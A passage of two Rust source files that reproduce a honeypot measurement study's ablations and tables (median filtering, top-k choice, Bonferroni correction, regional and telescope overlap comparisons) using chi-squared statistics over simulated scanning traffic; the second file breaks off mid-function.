//! The methodology ablations: what the paper's statistical machinery buys.
//!
//! Each render is a byte-exact port of the retired single-purpose binary
//! of the same name.

use super::{Exhibit, ExhibitCx, ExhibitOptions, Need, PlanRequest};
use crate::compare::{characteristic_table, compare_freqs, median_freqs, CharKind};
use crate::dataset::TrafficSlice;
use crate::neighborhood::neighborhoods;
use crate::query::Plan;
use crate::report::{header_str, paper_note_str, TextTable};
use cw_honeypot::deployment::{CollectorKind, Deployment, Provider};
use cw_scanners::population::ScenarioYear;
use cw_stats::{
    bonferroni_alpha, chi_squared_from_table, cramers_v, top_k_union_table, TopKSpec,
};
use std::collections::BTreeMap;
use std::net::Ipv4Addr;

const NEEDS: &[Need] = &[Need::Year(ScenarioYear::Y2021)];

/// One per-honeypot characteristic scan: the shape every ablation's
/// declared plans share with the Table 2 grid, so an `all`-style run
/// serves them from the same fused prefetch.
fn char_plan(ip: Ipv4Addr, slice: TrafficSlice, kind: CharKind) -> Plan {
    Plan::at(&[ip]).slice(slice).char_freqs(kind)
}

/// Ablation: the §4.4 median filter.
///
/// Without the filter, the Axtel flood on one Linode Singapore honeypot
/// makes the *region* look wildly different; the median representative
/// removes the single-honeypot anomaly.
pub struct AblationMedian;

/// Linode's GreyNoise honeypots grouped per region, in vantage order.
fn linode_regions(d: &Deployment) -> Vec<(String, Vec<Ipv4Addr>)> {
    let mut regions: Vec<(String, Vec<Ipv4Addr>)> = Vec::new();
    for v in &d.vantages {
        if v.provider != Provider::Linode || v.collector != CollectorKind::GreyNoise {
            continue;
        }
        match regions.iter_mut().find(|(c, _)| *c == v.region.code) {
            Some((_, ips)) => ips.push(v.ip),
            None => regions.push((v.region.code.clone(), vec![v.ip])),
        }
    }
    regions
}

impl Exhibit for AblationMedian {
    fn name(&self) -> &'static str {
        "ablation_median"
    }
    fn title(&self) -> &'static str {
        "§4.4 median filtering vs naive pooling"
    }
    fn needs(&self) -> &'static [Need] {
        NEEDS
    }
    fn plans(&self, _opts: &ExhibitOptions) -> Vec<PlanRequest> {
        PlanRequest::all_for(
            NEEDS[0],
            linode_regions(&Deployment::standard())
                .iter()
                .flat_map(|(_, ips)| ips.iter().copied())
                .map(|ip| char_plan(ip, TrafficSlice::SshPort22, CharKind::TopAs))
                .collect(),
        )
    }
    fn run(&self, cx: &ExhibitCx<'_>) -> String {
        let d = Deployment::standard();
        let mut out = header_str(
            "Ablation: §4.4 median filtering vs naive pooling (Linode SSH/22 Top-AS)",
        );
        out.push_str(&paper_note_str(
            "the Axtel (AS6503) flood hits one of four Linode AP-SG honeypots with ~3 orders of \
             magnitude more IPs (§4.1); naive pooling attributes it to the whole region",
        ));

        // Group Linode honeypots per region.
        let regions = linode_regions(&d);
        let exec = cx.exec(NEEDS[0]);
        let rep = |ips: &[Ipv4Addr], use_median: bool| -> BTreeMap<String, u64> {
            let per: Vec<BTreeMap<String, u64>> = ips
                .iter()
                .map(|&ip| {
                    exec.run(&char_plan(ip, TrafficSlice::SshPort22, CharKind::TopAs))
                        .into_char_freqs()
                })
                .collect();
            if use_median {
                median_freqs(&per)
            } else {
                let mut pooled: BTreeMap<String, u64> = BTreeMap::new();
                for m in per {
                    for (k, v) in m {
                        *pooled.entry(k).or_insert(0) += v;
                    }
                }
                pooled
            }
        };

        let sg = regions
            .iter()
            .find(|(c, _)| c == "AP-SG")
            .expect("Linode AP-SG exists");
        let others: Vec<&(String, Vec<Ipv4Addr>)> =
            regions.iter().filter(|(c, _)| c != "AP-SG").collect();

        let mut t = TextTable::new(&["Other region", "naive phi", "sig?", "median phi", "sig?"]);
        let m = others.len();
        for (code, ips) in &others {
            let mut row = vec![code.clone()];
            for use_median in [false, true] {
                let a = rep(&sg.1, use_median);
                let b = rep(ips, use_median);
                match compare_freqs(CharKind::TopAs, &[a, b], 0.05, m) {
                    Some(cmp) => {
                        row.push(format!("{:.2}", cmp.effect.phi));
                        row.push(if cmp.significant { "yes" } else { "no" }.into());
                    }
                    None => {
                        row.push("-".into());
                        row.push("-".into());
                    }
                }
            }
            t.row(row);
        }
        out.push_str(&format!("{}\n", t.render()));
        // The flood itself, for context.
        let per_honeypot: Vec<u64> = sg
            .1
            .iter()
            .map(|&ip| {
                *exec
                    .run(&char_plan(ip, TrafficSlice::SshPort22, CharKind::TopAs))
                    .into_char_freqs()
                    .get("AS6503")
                    .unwrap_or(&0)
            })
            .collect();
        out.push_str(&format!(
            "AS6503 (Axtel) SSH events per AP-SG honeypot: {per_honeypot:?} — the anomaly the \
             median filter suppresses\n"
        ));
        out
    }
}

fn mean(v: &[f64]) -> f64 {
    if v.is_empty() {
        0.0
    } else {
        v.iter().sum::<f64>() / v.len() as f64
    }
}

/// Ablation: why top-3? (§3.3 footnote 2)
///
/// Re-runs the Table 2 SSH/22 Top-AS comparison with k ∈ {1, 3, 5, 10} and
/// reports how the union size (degrees of freedom) and the significant
/// fraction move.
pub struct AblationTopk;

impl Exhibit for AblationTopk {
    fn name(&self) -> &'static str {
        "ablation_topk"
    }
    fn title(&self) -> &'static str {
        "Top-k choice for the §3.3 comparison"
    }
    fn needs(&self) -> &'static [Need] {
        NEEDS
    }
    fn plans(&self, _opts: &ExhibitOptions) -> Vec<PlanRequest> {
        PlanRequest::all_for(
            NEEDS[0],
            neighborhoods(&Deployment::standard())
                .iter()
                .flat_map(|(_, ips)| ips.iter().copied())
                .map(|ip| char_plan(ip, TrafficSlice::SshPort22, CharKind::TopAs))
                .collect(),
        )
    }
    fn run(&self, cx: &ExhibitCx<'_>) -> String {
        let d = Deployment::standard();
        let mut out = header_str("Ablation: top-k choice for the §3.3 comparison (SSH/22, Top ASes)");
        out.push_str(&paper_note_str(
            "top-5 inflates near-zero frequency variables by >200% vs top-3, biasing the test \
             toward small distributional differences — expect union size (df) to balloon and the \
             significant fraction to drift as k grows",
        ));

        let hoods = neighborhoods(&d);
        let exec = cx.exec(NEEDS[0]);
        let mut t = TextTable::new(&[
            "k",
            "avg union categories",
            "avg near-zero cells",
            "% neighborhoods dif",
            "avg phi (sig)",
        ]);
        for k in [1usize, 3, 5, 10] {
            let mut tested = 0usize;
            let mut sig = 0usize;
            let mut union_sizes = Vec::new();
            let mut near_zero = Vec::new();
            let mut phis = Vec::new();
            // First pass for the Bonferroni family size.
            let mut tables = Vec::new();
            for (_name, ips) in &hoods {
                let groups: Vec<BTreeMap<String, u64>> = ips
                    .iter()
                    .map(|&ip| {
                        exec.run(&char_plan(ip, TrafficSlice::SshPort22, CharKind::TopAs))
                            .into_char_freqs()
                    })
                    .collect();
                if groups.iter().any(|g| g.values().sum::<u64>() < 8) {
                    continue;
                }
                let table = top_k_union_table(&groups, TopKSpec { k });
                union_sizes.push(table.n_cols() as f64);
                let nz = table
                    .counts
                    .iter()
                    .flatten()
                    .filter(|&&c| c <= 2)
                    .count() as f64;
                near_zero.push(nz);
                tables.push(table);
            }
            let m = tables.len().max(1);
            let alpha = bonferroni_alpha(0.05, m);
            for table in &tables {
                if let Some(r) = chi_squared_from_table(table) {
                    tested += 1;
                    if r.p_value < alpha {
                        sig += 1;
                        phis.push(cramers_v(&r).phi);
                    }
                }
            }
            t.row(vec![
                k.to_string(),
                format!("{:.1}", mean(&union_sizes)),
                format!("{:.1}", mean(&near_zero)),
                format!("{:.0}%", 100.0 * sig as f64 / tested.max(1) as f64),
                format!("{:.2}", mean(&phis)),
            ]);
        }
        out.push_str(&format!("{}\n", t.render()));
        out
    }
}

/// Ablation: Bonferroni correction (§3.3, §2).
///
/// Counts how many Table 2 neighborhood comparisons look "different" at raw
/// p < 0.05 versus after family-wise correction — the gap is the
/// false-conclusion budget of uncorrected honeypot comparisons.
pub struct AblationBonferroni;

/// The Bonferroni ablation's (slice, characteristic) cells, in render
/// order.
const BONFERRONI_CELLS: &[(TrafficSlice, CharKind)] = &[
    (TrafficSlice::SshPort22, CharKind::TopAs),
    (TrafficSlice::SshPort22, CharKind::TopUsername),
    (TrafficSlice::TelnetPort23, CharKind::TopAs),
    (TrafficSlice::TelnetPort23, CharKind::TopPassword),
    (TrafficSlice::HttpPort80, CharKind::TopPayload),
    (TrafficSlice::HttpAllPorts, CharKind::TopPayload),
];

impl Exhibit for AblationBonferroni {
    fn name(&self) -> &'static str {
        "ablation_bonferroni"
    }
    fn title(&self) -> &'static str {
        "Raw p<0.05 vs Bonferroni-corrected comparisons"
    }
    fn needs(&self) -> &'static [Need] {
        NEEDS
    }
    fn plans(&self, _opts: &ExhibitOptions) -> Vec<PlanRequest> {
        let d = Deployment::standard();
        let mut plans = Vec::new();
        for &(slice, kind) in BONFERRONI_CELLS {
            for (_name, ips) in &neighborhoods(&d) {
                plans.extend(ips.iter().map(|&ip| char_plan(ip, slice, kind)));
            }
        }
        PlanRequest::all_for(NEEDS[0], plans)
    }
    fn run(&self, cx: &ExhibitCx<'_>) -> String {
        let d = Deployment::standard();
        let mut out = header_str("Ablation: raw p<0.05 vs Bonferroni-corrected (Table 2 comparisons)");
        out.push_str(&paper_note_str(
            "uncorrected comparisons overstate differences; the paper corrects across all \
             vantage-point comparisons (often shrinking p-value thresholds by orders of magnitude)",
        ));

        let hoods = neighborhoods(&d);
        let exec = cx.exec(NEEDS[0]);
        let cells: &[(TrafficSlice, CharKind)] = BONFERRONI_CELLS;
        let mut t = TextTable::new(&[
            "Slice",
            "Characteristic",
            "n",
            "raw p<0.05",
            "Bonferroni",
            "would-be false positives",
        ]);
        for &(slice, kind) in cells {
            let mut p_values = Vec::new();
            for (_name, ips) in &hoods {
                // Keep only honeypots that can observe the slice (HTTP ports
                // live on 2 of the 4 GreyNoise IPs per region).
                let groups: Vec<BTreeMap<String, u64>> = ips
                    .iter()
                    .map(|&ip| exec.run(&char_plan(ip, slice, kind)).into_char_freqs())
                    .filter(|g| g.values().sum::<u64>() >= 8)
                    .collect();
                if groups.len() < 2 {
                    continue;
                }
                let table = characteristic_table(kind, &groups);
                if let Some(r) = chi_squared_from_table(&table) {
                    p_values.push(r.p_value);
                }
            }
            let n = p_values.len();
            let raw = p_values.iter().filter(|&&p| p < 0.05).count();
            let corrected_alpha = bonferroni_alpha(0.05, n.max(1));
            let corrected = p_values.iter().filter(|&&p| p < corrected_alpha).count();
            t.row(vec![
                slice.label().to_string(),
                kind.label().to_string(),
                n.to_string(),
                format!("{raw} ({:.0}%)", 100.0 * raw as f64 / n.max(1) as f64),
                format!("{corrected} ({:.0}%)", 100.0 * corrected as f64 / n.max(1) as f64),
                (raw - corrected).to_string(),
            ]);
        }
        out.push_str(&format!("{}\n", t.render()));
        out.push_str(
            "Every 'would-be false positive' is a neighborhood a no-statistics study would have \
             reported as an attacker preference.\n",
        );
        out
    }
}
