//! The main-paper exhibits: 2021 analyses that follow a `--year` override.
//!
//! Each render is a byte-exact port of the retired single-purpose binary
//! of the same name.

use super::{Exhibit, ExhibitCx, ExhibitOptions, Need, PlanRequest, SimBundle};
use crate::compare::CharKind;
use crate::dataset::TrafficSlice;
use crate::network::{cloud_cloud_cell, honeytrap_cell, NetworkCell, CLOUD_EDU_PAIRS};
use crate::query::Plan;
use crate::report::{header_str, paper_note_str, pct, phi_value, TextTable};
use cw_honeypot::deployment::{CollectorKind, Deployment, Provider};
use cw_netsim::ip::IpExt;
use cw_scanners::population::ScenarioYear;
use std::net::Ipv4Addr;

/// The needs of every exhibit in this module: the 2021 world, overridable.
const NEEDS: &[Need] = &[Need::Year(ScenarioYear::Y2021)];

/// The (default-2021) bundle every exhibit in this module renders from.
fn main_bundle<'a>(cx: &'a ExhibitCx<'_>) -> &'a SimBundle {
    cx.bundle(NEEDS[0])
}

/// Table 1: vantage points — unique scanning IPs and ASes per network.
pub struct Table1;

/// One Table 1 fleet row: label, collection kind, distinct region count,
/// and the vantage IPs the row's one scan pushes down on.
struct Table1Fleet {
    name: &'static str,
    collector: CollectorKind,
    regions: usize,
    ips: Vec<Ipv4Addr>,
}

/// Table 1's honeypot fleets, in render order (rows with no vantages in
/// the deployment are dropped, as the render skips them anyway).
fn table1_fleets(d: &Deployment) -> Vec<Table1Fleet> {
    let rows: [(&'static str, Provider, CollectorKind); 9] = [
        ("Hurricane Electric", Provider::HurricaneElectric, CollectorKind::GreyNoise),
        ("AWS", Provider::Aws, CollectorKind::GreyNoise),
        ("Azure", Provider::Azure, CollectorKind::GreyNoise),
        ("Google", Provider::Google, CollectorKind::GreyNoise),
        ("Linode", Provider::Linode, CollectorKind::GreyNoise),
        ("Stanford", Provider::Stanford, CollectorKind::Honeytrap),
        ("AWS (Honeytrap)", Provider::Aws, CollectorKind::Honeytrap),
        ("Google (Honeytrap)", Provider::Google, CollectorKind::Honeytrap),
        ("Merit", Provider::Merit, CollectorKind::Honeytrap),
    ];
    rows.into_iter()
        .filter_map(|(name, provider, collector)| {
            let vantages: Vec<_> = d
                .vantages
                .iter()
                .filter(|v| v.provider == provider && v.collector == collector)
                .collect();
            if vantages.is_empty() {
                return None;
            }
            let mut regions: Vec<&str> =
                vantages.iter().map(|v| v.region.code.as_str()).collect();
            regions.sort();
            regions.dedup();
            Some(Table1Fleet {
                name,
                collector,
                regions: regions.len(),
                ips: vantages.iter().map(|v| v.ip).collect(),
            })
        })
        .collect()
}

impl Exhibit for Table1 {
    fn name(&self) -> &'static str {
        "table1"
    }
    fn title(&self) -> &'static str {
        "Vantage points — unique scan IPs / ASes per network"
    }
    fn needs(&self) -> &'static [Need] {
        NEEDS
    }
    fn plans(&self, _opts: &ExhibitOptions) -> Vec<PlanRequest> {
        let d = Deployment::standard();
        PlanRequest::all_for(
            NEEDS[0],
            table1_fleets(&d)
                .iter()
                .map(|f| Plan::at(&f.ips).unique_src_and_asn())
                .collect(),
        )
    }
    fn run(&self, cx: &ExhibitCx<'_>) -> String {
        let s = main_bundle(cx);
        let d = Deployment::standard();
        let mut out =
            header_str("Table 1: Vantage points — unique scan IPs / ASes, July 1-7 (simulated)");
        out.push_str(&paper_note_str(
            "HE 130K/8.3K · AWS 99.6K/7.1K · Azure 19.9K/2.5K · Google 103K/7.5K · Linode 72K/6.0K · \
             Stanford 105K/6.2K · Merit 107K/6.3K · Orion 5.1M/24.8K — absolute counts scale with the \
             simulated population; compare shapes (per-network ordering), not magnitudes",
        ));

        let mut t = TextTable::new(&[
            "Network",
            "Collection",
            "# Geo Regions",
            "Vantage IPs",
            "Unique Scan IPs",
            "Unique Scan ASes",
        ]);

        let exec = cx.exec(NEEDS[0]);
        for f in table1_fleets(&d) {
            // One plan per fleet row: dst pushdown, two distinct-counts
            // in a single pass (prefetched when the driver planned it).
            let (srcs, asns) = exec
                .run(&Plan::at(&f.ips).unique_src_and_asn())
                .into_unique_src_and_asn();
            t.row(vec![
                f.name.to_string(),
                format!("{:?}", f.collector),
                f.regions.to_string(),
                f.ips.len().to_string(),
                srcs.to_string(),
                asns.to_string(),
            ]);
        }
        // The telescope row.
        let tel = &s.telescope;
        t.row(vec![
            "Orion".to_string(),
            "Telescope".to_string(),
            "1".to_string(),
            tel.block().size().to_string(),
            tel.unique_source_count().to_string(),
            tel.unique_asn_count().to_string(),
        ]);
        out.push_str(&format!("{}\n", t.render()));
        out
    }
}

/// Table 2: attackers target neighboring services differently.
pub struct Table2;

impl Exhibit for Table2 {
    fn name(&self) -> &'static str {
        "table2"
    }
    fn title(&self) -> &'static str {
        "% neighborhoods with significantly different traffic"
    }
    fn needs(&self) -> &'static [Need] {
        NEEDS
    }
    fn plans(&self, _opts: &ExhibitOptions) -> Vec<PlanRequest> {
        PlanRequest::all_for(
            NEEDS[0],
            crate::neighborhood::table2_plans(&Deployment::standard()),
        )
    }
    fn run(&self, cx: &ExhibitCx<'_>) -> String {
        let mut out =
            header_str("Table 2: % neighborhoods with significantly different traffic (2021)");
        out.push_str(&paper_note_str(
            "SSH/22: AS 44% (0.31), FracMal 36% (0.12), User 55% (0.22), Pwd 4% (0.13) · \
             Telnet/23: AS 38% (0.43), FracMal 15%, User 21% (0.24), Pwd 19% (0.39) · \
             HTTP/80: AS 31% (0.43), FracMal 0%, Payload 15% (0.39) · \
             HTTP/All: AS 42% (0.23), FracMal 19% (0.04), Payload 77% (0.17)",
        ));
        let rows = cx.table2_rows(NEEDS[0]);
        let mut t =
            TextTable::new(&["Slice", "Characteristic", "n", "% dif neighborhoods", "Avg phi"]);
        for r in rows {
            t.row(vec![
                r.slice.label().to_string(),
                r.characteristic.label().to_string(),
                r.n.to_string(),
                format!("{:.0}%", r.pct_different),
                phi_value(r.avg_phi, 1),
            ]);
        }
        out.push_str(&format!("{}\n", t.render()));
        out
    }
}

/// Table 4: geographic regions with the most different traffic patterns.
pub struct Table4;

impl Exhibit for Table4 {
    fn name(&self) -> &'static str {
        "table4"
    }
    fn title(&self) -> &'static str {
        "Most-different geographic region per provider"
    }
    fn needs(&self) -> &'static [Need] {
        NEEDS
    }
    fn plans(&self, _opts: &ExhibitOptions) -> Vec<PlanRequest> {
        PlanRequest::all_for(
            NEEDS[0],
            crate::geography::table4_plans(&Deployment::standard()),
        )
    }
    fn run(&self, cx: &ExhibitCx<'_>) -> String {
        let mut out = header_str("Table 4: most-different geographic region per provider (2021)");
        out.push_str(&paper_note_str(
            "Asia-Pacific regions dominate: e.g. Top-AS SSH/22 AWS=AP-JP (0.68), Google=AP-SG (0.16), \
             Linode=AP-SG (0.27); Username TEL/23 AWS=AP-AU (0.56); Payload HTTP/80 AWS=AP-HK (0.31) \
             — expect most named regions to be AP-*",
        ));
        let rows = cx.table4_rows(NEEDS[0]);
        let mut t =
            TextTable::new(&["Characteristic", "Slice", "Provider", "Most Dif. Region", "Avg phi"]);
        let mut ap_hits = 0usize;
        let mut named = 0usize;
        for r in rows {
            if let Some(region) = &r.region {
                named += 1;
                if region.starts_with("AP-") {
                    ap_hits += 1;
                }
            }
            t.row(vec![
                r.characteristic.label().to_string(),
                r.slice.label().to_string(),
                format!("{:?}", r.provider),
                r.region.clone().unwrap_or_else(|| "-".into()),
                phi_value(r.avg_phi, 1),
            ]);
        }
        out.push_str(&format!("{}\n", t.render()));
        out.push_str(&format!(
            "Asia-Pacific share of most-different regions: {ap_hits}/{named} \
             (paper: AP dominates the grid)\n"
        ));
        out
    }
}

/// Table 5: traffic similarities within and between geo-locations.
pub struct Table5;

/// Table 5's (slice, characteristic) grid, in render order.
const TABLE5_CELLS: &[(TrafficSlice, CharKind)] = &[
    (TrafficSlice::SshPort22, CharKind::TopAs),
    (TrafficSlice::SshPort22, CharKind::FracMalicious),
    (TrafficSlice::SshPort22, CharKind::TopUsername),
    (TrafficSlice::SshPort22, CharKind::TopPassword),
    (TrafficSlice::TelnetPort23, CharKind::TopAs),
    (TrafficSlice::TelnetPort23, CharKind::FracMalicious),
    (TrafficSlice::TelnetPort23, CharKind::TopUsername),
    (TrafficSlice::TelnetPort23, CharKind::TopPassword),
    (TrafficSlice::HttpPort80, CharKind::TopAs),
    (TrafficSlice::HttpPort80, CharKind::FracMalicious),
    (TrafficSlice::HttpPort80, CharKind::TopPayload),
    (TrafficSlice::HttpAllPorts, CharKind::TopAs),
    (TrafficSlice::HttpAllPorts, CharKind::FracMalicious),
    (TrafficSlice::HttpAllPorts, CharKind::TopPayload),
];

impl Exhibit for Table5 {
    fn name(&self) -> &'static str {
        "table5"
    }
    fn title(&self) -> &'static str {
        "% similar pairs of regions per geographic bucket"
    }
    fn needs(&self) -> &'static [Need] {
        NEEDS
    }
    fn plans(&self, _opts: &ExhibitOptions) -> Vec<PlanRequest> {
        let d = Deployment::standard();
        PlanRequest::all_for(
            NEEDS[0],
            TABLE5_CELLS
                .iter()
                .flat_map(|&(slice, kind)| crate::geography::table5_plans(&d, slice, kind))
                .collect(),
        )
    }
    fn run(&self, cx: &ExhibitCx<'_>) -> String {
        let d = Deployment::standard();
        let mut out = header_str("Table 5: % similar pairs of regions per geographic bucket (2021)");
        out.push_str(&paper_note_str(
            "US/EU pairs are nearly always similar (94-100%), APAC much less (e.g. Top-3 AS SSH/22: \
             US 94, EU 100, APAC 63, intercontinental 70; HTTP/All payloads: US 50, EU 53, APAC 20, IC 11)",
        ));
        let mut t = TextTable::new(&["Slice", "Characteristic", "US", "EU", "APAC", "Intercont."]);
        let exec = cx.exec(NEEDS[0]);
        for &(slice, kind) in TABLE5_CELLS {
            let cells = crate::geography::table5_with(&exec, &d, slice, kind);
            let find = |b: cw_netsim::geo::RegionPairKind| {
                cells
                    .iter()
                    .find(|c| c.bucket == b)
                    .map(|c| format!("{:.0}% (n={})", c.pct_similar, c.n))
                    .unwrap_or_else(|| "-".into())
            };
            t.row(vec![
                slice.label().to_string(),
                kind.label().to_string(),
                find(cw_netsim::geo::RegionPairKind::WithinUs),
                find(cw_netsim::geo::RegionPairKind::WithinEu),
                find(cw_netsim::geo::RegionPairKind::WithinApac),
                find(cw_netsim::geo::RegionPairKind::Intercontinental),
            ]);
        }
        out.push_str(&format!("{}\n", t.render()));
        out
    }
}

fn network_cell_str(c: &NetworkCell) -> (String, String) {
    if c.uncomputable {
        ("×".to_string(), "×".to_string())
    } else {
        (format!("{}/{}", c.n_different, c.n), phi_value(c.avg_phi, 1))
    }
}

/// Table 7: differences across network types (cloud–cloud, cloud–EDU,
/// EDU–EDU).
pub struct Table7;

impl Exhibit for Table7 {
    fn name(&self) -> &'static str {
        "table7"
    }
    fn title(&self) -> &'static str {
        "Differences across network types (cloud/EDU)"
    }
    fn needs(&self) -> &'static [Need] {
        NEEDS
    }
    fn run(&self, cx: &ExhibitCx<'_>) -> String {
        let s = main_bundle(cx);
        let d = Deployment::standard();
        let mut out = header_str("Table 7: differences across network types (2021)");
        out.push_str(&paper_note_str(
            "cloud-cloud differences are small (avg phi ≤ 0.23); cloud-EDU mostly similar except \
             SSH/22 Top-AS in 2021 (phi 0.48: Chinanet→EDU, Cogent→cloud); EDU-EDU never different; \
             credentials are × for Honeytrap fleets",
        ));
        let grid: &[(CharKind, TrafficSlice)] = &[
            (CharKind::TopAs, TrafficSlice::SshPort22),
            (CharKind::TopAs, TrafficSlice::TelnetPort23),
            (CharKind::TopAs, TrafficSlice::HttpPort80),
            (CharKind::TopAs, TrafficSlice::HttpAllPorts),
            (CharKind::TopUsername, TrafficSlice::SshPort22),
            (CharKind::TopUsername, TrafficSlice::TelnetPort23),
            (CharKind::TopPassword, TrafficSlice::TelnetPort23),
            (CharKind::TopPassword, TrafficSlice::SshPort22),
            (CharKind::TopPayload, TrafficSlice::HttpPort80),
            (CharKind::TopPayload, TrafficSlice::HttpAllPorts),
            (CharKind::FracMalicious, TrafficSlice::SshPort22),
            (CharKind::FracMalicious, TrafficSlice::TelnetPort23),
            (CharKind::FracMalicious, TrafficSlice::HttpPort80),
            (CharKind::FracMalicious, TrafficSlice::HttpAllPorts),
        ];
        let mut t = TextTable::new(&[
            "Characteristic",
            "Slice",
            "Cloud-Cloud dif",
            "phi",
            "Cloud-EDU dif",
            "phi",
            "EDU-EDU dif",
            "phi",
        ]);
        let edu_edu_pairs: [(&str, &str); 1] = [("honeytrap/stanford", "honeytrap/merit")];
        for &(kind, slice) in grid {
            let cc = cloud_cloud_cell(&s.dataset, &d, slice, kind, 0.05);
            let ce = honeytrap_cell(&s.dataset, &d, &CLOUD_EDU_PAIRS, slice, kind, 0.05);
            let ee = honeytrap_cell(&s.dataset, &d, &edu_edu_pairs, slice, kind, 0.05);
            let (cc_n, cc_phi) = network_cell_str(&cc);
            let (ce_n, ce_phi) = network_cell_str(&ce);
            let (ee_n, ee_phi) = network_cell_str(&ee);
            t.row(vec![
                kind.label().to_string(),
                slice.label().to_string(),
                cc_n,
                cc_phi,
                ce_n,
                ce_phi,
                ee_n,
                ee_phi,
            ]);
        }
        out.push_str(&format!("{}\n", t.render()));
        out
    }
}

/// Table 8: scanners avoid telescopes — per-port source-IP overlap.
pub struct Table8;

impl Exhibit for Table8 {
    fn name(&self) -> &'static str {
        "table8"
    }
    fn title(&self) -> &'static str {
        "Scanner-IP overlap with the telescope per port"
    }
    fn needs(&self) -> &'static [Need] {
        NEEDS
    }
    fn plans(&self, _opts: &ExhibitOptions) -> Vec<PlanRequest> {
        PlanRequest::all_for(
            NEEDS[0],
            crate::overlap::table8_and_9_plans(&Deployment::standard()),
        )
    }
    fn run(&self, cx: &ExhibitCx<'_>) -> String {
        let mut out = header_str("Table 8: |Tel ∩ X| overlap per port (2021)");
        out.push_str(&paper_note_str(
            "Tel∩Cloud/Cloud: 23→91%, 2323→53%, 80→73%, 8080→80%, 21→29%, 2222→9%, 25→19%, \
             7547→33%, 22→13%, 443→30%; Tel∩EDU higher everywhere; Cloud∩EDU 81-97%",
        ));
        let rows = cx.table8_rows(NEEDS[0]);
        let mut t =
            TextTable::new(&["Port", "Tel∩Cloud / Cloud", "Tel∩EDU / EDU", "Cloud∩EDU / Cloud"]);
        for r in rows {
            t.row(vec![
                r.port.to_string(),
                pct(r.tel_cloud),
                pct(r.tel_edu),
                pct(r.cloud_edu),
            ]);
        }
        out.push_str(&format!("{}\n", t.render()));
        out
    }
}

/// Table 9: attackers on SSH-assigned ports avoid telescopes.
pub struct Table9;

impl Exhibit for Table9 {
    fn name(&self) -> &'static str {
        "table9"
    }
    fn title(&self) -> &'static str {
        "Attacker-IP overlap with the telescope per port"
    }
    fn needs(&self) -> &'static [Need] {
        NEEDS
    }
    fn plans(&self, _opts: &ExhibitOptions) -> Vec<PlanRequest> {
        PlanRequest::all_for(
            NEEDS[0],
            crate::overlap::table8_and_9_plans(&Deployment::standard()),
        )
    }
    fn run(&self, cx: &ExhibitCx<'_>) -> String {
        let mut out = header_str("Table 9: attacker-IP overlap with the telescope (2021)");
        out.push_str(&paper_note_str(
            "Tel∩Mal-Cloud/Mal-Cloud: 23→94%, 2323→88%, 80→84%, 8080→84%, 2222→3.6%, 22→7.5%; \
             EDU column only computable on 80/8080 (96%/97%), × elsewhere",
        ));
        let rows = cx.table9_rows(NEEDS[0]);
        let mut t = TextTable::new(&["Port", "Tel∩Mal-Cloud / Mal-Cloud", "Tel∩Mal-EDU / Mal-EDU"]);
        for r in rows {
            t.row(vec![r.port.to_string(), pct(r.tel_cloud), pct(r.tel_edu)]);
        }
        out.push_str(&format!("{}\n", t.render()));
        out
    }
}

/// Table 10: a significantly different set of ASes target telescopes.
pub struct Table10;

impl Exhibit for Table10 {
    fn name(&self) -> &'static str {
        "table10"
    }
    fn title(&self) -> &'static str {
        "Telescope vs EDU / cloud top-AS differences"
    }
    fn needs(&self) -> &'static [Need] {
        NEEDS
    }
    fn run(&self, cx: &ExhibitCx<'_>) -> String {
        let s = main_bundle(cx);
        let d = Deployment::standard();
        let mut out = header_str("Table 10: telescope vs EDU / cloud — top-AS differences (2021)");
        out.push_str(&paper_note_str(
            "Telescope-EDU: SSH 2/2 dif (0.41), TEL 2/2 (0.68), HTTP/80 0/2, All 2/2 (0.20); \
             Telescope-Cloud: SSH 3/3 (0.71), TEL 3/3 (0.82), HTTP/80 2/3 (0.40), All 3/3 (0.30)",
        ));
        let tel = &s.telescope;
        let edu_fleets = ["honeytrap/stanford", "honeytrap/merit"];
        let cloud_fleets = [
            "honeytrap/aws-west",
            "honeytrap/google-west",
            "honeytrap/google-east",
        ];
        let slices = [
            TrafficSlice::SshPort22,
            TrafficSlice::TelnetPort23,
            TrafficSlice::HttpPort80,
            TrafficSlice::AnyAll,
        ];
        let mut t = TextTable::new(&[
            "Slice",
            "Tel-EDU dif",
            "Tel-EDU avg phi",
            "Tel-Cloud dif",
            "Tel-Cloud avg phi",
        ]);
        for slice in slices {
            let run = |fleets: &[&str]| -> (usize, usize, Option<f64>) {
                let mut n = 0;
                let mut dif = 0;
                let mut phis = Vec::new();
                for f in fleets {
                    if let Some(cmp) = crate::network::telescope_vs_fleet(
                        &s.dataset,
                        &d,
                        tel,
                        f,
                        slice,
                        0.05,
                        fleets.len(),
                    ) {
                        n += 1;
                        if cmp.significant {
                            dif += 1;
                            phis.push(cmp.effect.phi);
                        }
                    }
                }
                (n, dif, cw_stats::descriptive::mean(&phis))
            };
            let (en, ed, ephi) = run(&edu_fleets);
            let (cn, cd, cphi) = run(&cloud_fleets);
            t.row(vec![
                slice.label().to_string(),
                format!("{ed}/{en}"),
                phi_value(ephi, 1),
                format!("{cd}/{cn}"),
                phi_value(cphi, 1),
            ]);
        }
        out.push_str(&format!("{}\n", t.render()));
        out
    }
}

/// Table 11: scanner-targeted protocols on HTTP-assigned ports.
pub struct Table11;

impl Exhibit for Table11 {
    fn name(&self) -> &'static str {
        "table11"
    }
    fn title(&self) -> &'static str {
        "Protocol breakdown on ports 80/8080"
    }
    fn needs(&self) -> &'static [Need] {
        NEEDS
    }
    fn plans(&self, _opts: &ExhibitOptions) -> Vec<PlanRequest> {
        let d = Deployment::standard();
        PlanRequest::all_for(
            NEEDS[0],
            [80u16, 8080]
                .into_iter()
                .flat_map(|port| crate::ports::protocol_breakdown_plans(&d, port))
                .collect(),
        )
    }
    fn run(&self, cx: &ExhibitCx<'_>) -> String {
        let mut out = header_str("Table 11: protocol breakdown on ports 80/8080 (2021)");
        out.push_str(&paper_note_str(
            "HTTP/80 85% (42% benign, 55% malicious) vs ~HTTP/80 15% (42%, 51%); \
             HTTP/8080 84% (22%, 77%) vs ~HTTP/8080 16% (35%, 49%); \
             ~HTTP split: TLS 7%, Telnet 0.5%, SQL 0.4%, RTSP 0.3%, SMB 0.3%, …",
        ));
        let mut t =
            TextTable::new(&["Protocol/Port", "Breakdown", "% Benign", "% Malicious", "Scanners"]);
        // The binary printed the ~HTTP/80 share lines *while* filling the
        // table, so they precede the rendered table in the output stream.
        for port in [80u16, 8080] {
            let (rows, shares) = cx.breakdown(NEEDS[0], port);
            for r in rows {
                t.row(vec![
                    format!("{}HTTP/{}", if r.is_http { "" } else { "~" }, port),
                    format!("{:.0}%", r.pct_of_scanners),
